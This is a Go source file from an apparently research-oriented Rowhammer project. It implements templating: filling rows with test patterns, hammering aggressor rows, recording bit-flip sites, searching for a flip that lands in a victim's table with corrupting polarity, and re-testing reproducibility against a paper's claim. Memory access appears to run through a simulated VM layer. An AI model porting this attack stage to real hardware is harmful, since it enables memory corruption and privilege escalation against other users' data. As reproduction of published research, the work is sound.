package rowhammer

import (
	"bytes"

	"explframe/internal/vm"
)

// Pattern selects the data written to victim rows while templating.  A
// 0xFF pattern exposes 1->0 ("true") cells, 0x00 exposes 0->1 ("anti")
// cells; templating runs both, ones first.
type Pattern byte

// Standard templating patterns.
const (
	PatternOnes  Pattern = 0xFF
	PatternZeros Pattern = 0x00
)

// Template scans the attacker's own mapping [base, base+length) for
// Rowhammer-vulnerable bits: for every row the engine's mode can hammer from
// inside the region it writes the test pattern, hammers, and diffs the
// victim pages.  It stops early after cfg.MaxFlips sites when that is
// non-zero.
//
// The region must already be touched (resident); Template does not fault
// pages in, mirroring the attack where the 1 GB buffer is populated first.
func (e *Engine) Template(base vm.VirtAddr, length uint64) ([]FlipSite, error) {
	rows := e.mapRows(base, length)
	var flips []FlipSite
	seen := make(map[uint64]bool) // VA*8+bit of every recorded flip

	// record diffs a victim page against fill, the pattern written into
	// it.  Flips are rare, so equal 64-byte blocks are skipped whole and
	// only a differing block is walked byte by byte.
	record := func(va vm.VirtAddr, pattern Pattern, fill []byte, agg Aggressors) error {
		pageVA := va.PageBase()
		buf := e.probePage()
		if err := e.proc.ReadBytesInto(pageVA, buf); err != nil {
			return err
		}
		const block = 64 // divides vm.PageSize
		for lo := 0; lo < len(buf); lo += block {
			if bytes.Equal(buf[lo:lo+block], fill[lo:lo+block]) {
				continue
			}
			for i := lo; i < lo+block; i++ {
				diff := buf[i] ^ byte(pattern)
				if diff == 0 {
					continue
				}
				at := pageVA + vm.VirtAddr(i)
				for bit := uint8(0); bit < 8; bit++ {
					k := uint64(at)*8 + uint64(bit)
					if diff&(1<<bit) == 0 || seen[k] {
						continue
					}
					seen[k] = true
					flips = append(flips, FlipSite{
						VA:         at,
						PageVA:     pageVA,
						ByteInPage: i,
						Bit:        bit,
						From:       (byte(pattern) >> bit) & 1,
						Agg:        agg,
					})
					e.st.FlipsFound++
				}
			}
		}
		return nil
	}

	for _, pattern := range [...]Pattern{PatternOnes, PatternZeros} {
		fill := e.fillPage(pattern)
		for _, key := range rows.keys {
			if e.cfg.MaxFlips > 0 && len(flips) >= e.cfg.MaxFlips {
				return flips, nil
			}
			agg, err := e.aggressorsFor(rows, key[0], key[1])
			if err != nil {
				continue
			}

			// Write the pattern into every victim page of the row, then
			// hammer, then diff.  Rewriting also re-arms previously flipped
			// cells, so repeated templating is idempotent.
			pages := rows.pages[key]
			for _, pva := range pages {
				if err := e.proc.WriteBytes(pva.PageBase(), fill); err != nil {
					return flips, err
				}
			}
			if err := e.Hammer(agg, e.cfg.PairHammerCount); err != nil {
				return flips, err
			}
			e.st.RowsScanned++
			for _, pva := range pages {
				if err := record(pva, pattern, fill, agg); err != nil {
					return flips, err
				}
			}
		}
	}
	return flips, nil
}

// TemplateUntil scans like Template but stops as soon as a flip satisfying
// accept is found, returning it.  The attacker uses this to search for a
// flip that will land inside the victim's table with corrupting polarity
// without paying for a full-region scan.  found is false if the region is
// exhausted first; all flips seen along the way are returned for reporting.
func (e *Engine) TemplateUntil(base vm.VirtAddr, length uint64, accept func(FlipSite) bool) (FlipSite, []FlipSite, bool, error) {
	// Scan in chunks so early exit saves real work; chunk edges lose a few
	// candidate rows (their aggressors fall outside the chunk), which only
	// costs coverage, never correctness.
	const chunk = 2 << 20
	var all []FlipSite
	for off := uint64(0); off < length; off += chunk {
		sz := uint64(chunk)
		if off+sz > length {
			sz = length - off
		}
		flips, err := e.Template(base+vm.VirtAddr(off), sz)
		if err != nil {
			return FlipSite{}, all, false, err
		}
		all = append(all, flips...)
		for _, f := range flips {
			if accept(f) {
				return f, all, true, nil
			}
		}
	}
	return FlipSite{}, all, false, nil
}

// Reproduce rewrites the site's page with pattern (re-arming its cells),
// re-hammers the site's aggressors and reports whether the templated bit
// flipped away from site.From again.  pattern must be the one that exposed
// the site (ones for From == 1, zeros for From == 0).  Only the templated
// bit is compared: another weak cell flipping in the same byte does not
// hide a reproduction.  This measures the paper's Section VI claim of "a
// high probability of getting bit flips in the same location".
func (e *Engine) Reproduce(site FlipSite, pattern Pattern) (bool, error) {
	fill := e.fillPage(pattern)
	if err := e.proc.WriteBytes(site.PageVA, fill); err != nil {
		return false, err
	}
	if err := e.Hammer(site.Agg, e.cfg.PairHammerCount); err != nil {
		return false, err
	}
	got, err := e.proc.Load(site.VA)
	if err != nil {
		return false, err
	}
	return (got>>site.Bit)&1 != site.From, nil
}

// fillPage returns the engine's page-sized fill buffer set to the pattern.
// One buffer serves every write in a templating sweep (the fill used to be
// rebuilt per row, one allocation per scanned row).
func (e *Engine) fillPage(pattern Pattern) []byte {
	if e.fillBuf == nil {
		e.fillBuf = make([]byte, vm.PageSize)
	}
	for i := range e.fillBuf {
		e.fillBuf[i] = byte(pattern)
	}
	return e.fillBuf
}

// probePage returns the engine's page-sized read-back buffer.  Contents are
// overwritten by ReadBytesInto; no clearing needed.
func (e *Engine) probePage() []byte {
	if e.probeBuf == nil {
		e.probeBuf = make([]byte, vm.PageSize)
	}
	return e.probeBuf
}
